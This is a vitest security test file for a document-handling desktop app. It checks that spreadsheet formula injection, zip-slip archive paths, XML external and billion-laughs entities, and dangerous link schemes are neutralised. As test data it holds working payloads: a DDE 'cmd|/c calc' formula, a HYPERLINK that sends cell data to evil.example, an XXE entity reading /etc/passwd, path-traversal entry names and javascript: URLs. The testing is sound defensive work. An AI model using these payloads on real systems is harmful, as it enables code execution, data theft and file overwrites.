import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { writeFillIn } from '../../electron/documents/fillIn/writeFillIn.ts';
import { LIMITS } from '../../electron/documents/limits.ts';
import { readSource } from '../../electron/documents/reading/readSource.ts';
import { unpack } from '../../electron/documents/reading/unpack.ts';
import { writeWorkbook } from '../../electron/documents/workbooks/writeWorkbook.ts';
import { zipFiles } from '../../electron/documents/zipFiles.ts';
import { linkTrouble } from '../../electron/domain/registrations/link.ts';
import type { SheetSpec } from '../../electron/domain/sheets/workbookSpec.ts';
import { fileWords } from '../../electron/services/fillIn/forms.ts';
import { fileNameOf } from '../../electron/domain/papers/paper.ts';
import { csvOf } from '../../renderer/grid/csv.ts';
import { formOf } from '../support/fillInForms.ts';
import { rawRow, rawWorkbook } from '../support/fixturesBad.ts';
import { rawDocument, rawParagraph } from '../support/wordFixtures.ts';

/** Files that come in from forty departments, and files that go out to them and to leadership. */

/** Texts that a spreadsheet would run, as somebody may have typed them into a table that the office imports. */
const RUNNING = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"公开")',
  '+1+cmd|x',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '\t=1',
  '\r=1',
  ' "=1',
];

/**
 * The hole: a text that begins with `=`, `+`, `-` or `@` is a formula to whoever opens the file. The harm: a table that one
 * unit sent in runs a program, or sends figures out, on the leadership's machine. The safe form: in a workbook every
 * text is a text cell; in .csv, which has no types, a tab stands before it.
 */
describe('text in cells', () => {
  const sheetsOf = async (bytes: Uint8Array) => {
    const parts = await unpack('a.xlsx', bytes);
    if (!parts.ok) throw new Error(parts.error.message);
    return parts.value.filter(({ name }) => name.startsWith('xl/worksheets/')).map((part) => part.bytes.toString());
  };

  test('a workbook holds no formula', async () => {
    const sheet: SheetSpec = {
      name: '=1',
      title: '=1+1',
      caption: ['=1+1', '@SUM(1)'],
      columns: [{ header: ['=1'], width: 20, align: 'left' }],
      rows: RUNNING.map((text) => [{ kind: 'text', text }]),
      merges: [],
      footer: ['=1+1'],
      paper: 'A4',
    };
    const bytes = await writeWorkbook({ fileName: 'x.xlsx', sheets: [sheet] }, () => {});
    for (const text of await sheetsOf(bytes)) expect(text).not.toMatch(/<f[\s>/]/);
  });

  test('nor does a fill-in workbook', async () => {
    const form = formOf(RUNNING.map((content) => ({ content, base: { remarks: content } })));
    const sheets = await sheetsOf(await writeFillIn([form], () => {}));
    expect(sheets.length).toBeGreaterThan(0);
    for (const text of sheets) expect(text).not.toMatch(/<f[\s>/]/);
  });

  test.each(RUNNING)('in .csv %j does not begin its cell', (text) => {
    const [, line = ''] = csvOf({ name: 'a', header: ['事项'], rows: [[text]] }).split(/(?<=\uFEFF事项\r\n)/u);
    expect(line.replace(/^"/, '')).toMatch(/^\t/);
  });
});

/**
 * The hole: a name inside an archive may lead out of the folder it is unpacked to, and a small archive may unpack to more
 * than a machine holds. The harm: an imported table overwrites files, or the machine stops. The safe form: nothing is
 * unpacked to disk, names that lead out are refused, sizes are counted as the bytes come and not as they are declared.
 */
describe('entries of archives', () => {
  const whole = rawWorkbook({ data: rawRow(1, ['序号', '工作任务']) });

  test.each(['../evil.txt', '/tmp/evil.txt', 'xl/../../evil.txt', 'C:/evil.txt', '..\\evil.txt'])(
    'a part named %s is not taken, and nothing is written',
    async (name) => {
      const parts = await unpack('a.xlsx', whole);
      if (!parts.ok) throw new Error(parts.error.message);
      const outcome = await readSource({
        name: 'a.xlsx',
        bytes: zipFiles([...parts.value, { name, bytes: Buffer.from('evil') }]),
      });
      expect(outcome).toMatchObject({ ok: false, error: { code: 'not-a-workbook' } });
      expect(existsSync('/tmp/evil.txt')).toBe(false);
      expect(readdirSync('.')).not.toContain('evil.txt');
    },
  );

  test('more parts than any workbook has are refused before one is unpacked', async () => {
    const parts = Array.from({ length: LIMITS.entries + 1 }, (_, at) => ({ name: `xl/${at}`, bytes: Buffer.of() }));
    expect(await unpack('a.xlsx', zipFiles(parts))).toMatchObject({ ok: false, error: { code: 'unpacks-too-large' } });
  });

  test.each(['../../../etc/cron.d/x', 'C:\\Windows\\x', 'a/b', 'a\u0000b', 'CON:x'])(
    'a unit named %j gives the files that go out to it plain names',
    (name) => {
      for (const file of [`${fileWords(name)}.xlsx`, fileNameOf(name, 'docx')]) {
        expect(file).not.toMatch(/[\p{Cc}:]/u);
        expect([path.posix.basename(file), path.win32.basename(file)]).toEqual([file, file]);
      }
    },
  );
});

/**
 * The hole: XML may define words that stand for files or for a billion others. The harm: an imported document reads the
 * office's files into itself, or fills the memory. The safe form: no such word is ever looked up.
 */
describe('entities of XML', () => {
  test.each([
    ['a file', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
    ['a billion words', '<!ENTITY a "0123456789"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;">'],
  ])('%s is not read into a document', async (_case, entity) => {
    const parts = await unpack('a.docx', rawDocument({ body: rawParagraph('一、&x;公开') }));
    if (!parts.ok) throw new Error(parts.error.message);
    const changed = (xml: string) =>
      xml.replace('<w:document', `<!DOCTYPE x [${entity}]><w:document`).replaceAll('&amp;x;', '&x;');
    const bytes = zipFiles(
      parts.value.map(({ name, bytes: part }) => ({
        name,
        bytes: name === 'word/document.xml' ? Buffer.from(changed(part.toString())) : part,
      })),
    );
    expect(Buffer.from(bytes).toString()).toMatch(/<!DOCTYPE x [^]*一、&x;公开/);
    const outcome = await readSource({ name: 'a.docx', bytes });
    expect(JSON.stringify(outcome)).not.toMatch(/root:|0123456789/);
  });
});

/**
 * The hole: a link of a registration is clicked by whoever checks it. The harm: a script runs in the page with its token,
 * a file of the machine opens, or a foreign site shows under a known name. The safe form: http and https only, without
 * a user's name before the host; checked by the contract's schema, so in imports, workbooks and scripts alike.
 */
describe('links of registrations', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,<script>1</script>',
    'file:///etc/passwd',
    'blob:http://127.0.0.1/1',
    'vbscript:x',
    'ms-msdt:/id',
    '//evil.example/a',
    '\\\\server\\share',
    'https://www.gov.cn@evil.example/',
    'http://www.gov.cn:80@evil.example/',
    'https://:x@evil.example/',
  ])('%s is refused in words', (text) => {
    expect(linkTrouble(text)).toMatch(/^链接/u);
  });

  test('a plain one passes', () => {
    expect(linkTrouble('http://www.qinghe.gov.cn/a@b/1.html?x=1#y')).toBe(undefined);
  });
});
